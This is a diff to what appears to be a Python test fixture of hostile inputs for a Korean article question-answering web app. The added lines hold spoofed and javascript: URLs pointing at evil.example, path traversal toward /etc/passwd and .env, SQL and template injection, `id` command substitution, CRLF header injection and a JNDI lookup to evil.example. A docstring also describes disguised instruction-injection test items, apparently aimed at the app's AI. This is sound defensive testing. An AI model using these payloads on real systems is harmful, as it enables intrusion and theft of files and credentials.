@@ -84,10 +84,20 @@ ADDRESSES = (
     "vbscript:msgbox(1)",
     "file:///etc/passwd",
     "//evil.example/",
-    "\\\\evil.example\\share",
+    "\\evil.example\\share",
     "https:evil.example",
     "blob:https://evil.example/1",
     "intent://evil.example#Intent;scheme=http;end",
+    "https://naver.com@evil.example/",
+    "https://naver.com%2f@evil.example",
+    "https://evil.example/\u202e/moc.revan",
+    "https://nav\u200ber.com.evil.example/",
+    "http:///evil.example/",
+    "javascript://naver.com/%0aalert(1)",
+    "\x01javascript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "ftp://evil.example/a",
+    "https://[::1",
 )
 
 _DEMANDS = (
@@ -118,3 +128,89 @@ INSTRUCTIONS = tuple(
     for disguise in _DISGUISES
 )
 """Sixty: each demand, plain, as an announcement, in a comment, with invisible characters between, and quoted."""
+
+_LEADING_OUT = (
+    "../../../../etc/passwd",
+    "..%2f..%2f..%2f..%2fetc%2fpasswd",
+    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "..%252f..%252fetc%252fpasswd",
+    "....//....//etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "..%5c..%5cwindows%5cwin.ini",
+    "/etc/passwd",
+    "%2fetc%2fpasswd",
+    "C:\\windows\\win.ini",
+    "//server/share/secret.txt",
+    "passwd%00.txt",
+    "file:///etc/passwd",
+    "..;/..;/etc/passwd",
+    "%c0%ae%c0%ae/etc/passwd",
+    ".env",
+    "archive.sqlite3",
+)
+_FOLDERS = ("/gradio_api/file=", "/static/", "/assets/", "/gradio_api/proxy=")
+
+PATHS = tuple(f"{folder}{path}" for folder in _FOLDERS for path in _LEADING_OUT) + tuple(
+    f"{folder}{path}" for folder in ("/ui/", "/api/articles/") for path in _LEADING_OUT
+)
+"""Addresses that would lead out of a folder, or into one that is nobody's business."""
+
+QUESTIONS = (
+    *(
+        "",
+        " ",
+        "\n\t",
+        "\u200b",
+        "\u3000\u00a0",
+        ".",
+        "?!",
+        "…",
+        "가",
+        "a",
+        "1",
+        "ㅋ",
+        "ㅏ",
+        "ㄱㄴㄷㄹㅁㅂㅅ",
+        "ㅠ" * 400,
+    ),
+    *("가" * 500, "가" * 501, "가" * 1_001, "왜 " * 250, "ㅋ" * 500, "a" * 10_000, "😀" * 100, "👨‍👩‍👧‍👦", "🇰🇷 로봇"),
+    *(
+        "' OR 1=1; --",
+        "로봇'); DROP TABLE articles; --",
+        '" UNION SELECT * FROM keys',
+        "title:로봇 AND *",
+        "로봇~2 OR [a TO z]",
+    ),
+    *(
+        "(((((",
+        ")))))",
+        "(a+)+$" * 20,
+        "[[[[",
+        "\\" * 50,
+        "%s%s%n",
+        "${jndi:ldap://evil.example}",
+        "{{7*7}}",
+        "`id`",
+        "$(id)",
+    ),
+    *(
+        "../../etc/passwd",
+        "\u202e거꾸로 읽는 질문",
+        "로\u200b봇의 값은?",
+        "로\0봇",
+        "\x1b[31m빨강",
+        "\ufeff로봇",
+        "로봇\r\nset-cookie: x",
+    ),
+    *(
+        "Who is the mayor of the city?",
+        "市長は誰ですか？",
+        "市长是谁？",
+        "Кто мэр города?",
+        "من هو العمدة؟",
+        "नगर का महापौर?",
+    ),
+    *("NULL", "null", "undefined", "NaN", "1e309", "0x41414141", "-1", "true", "[]", "{}"),
+)
+"""Questions as nobody should ask them, sixty and more."""
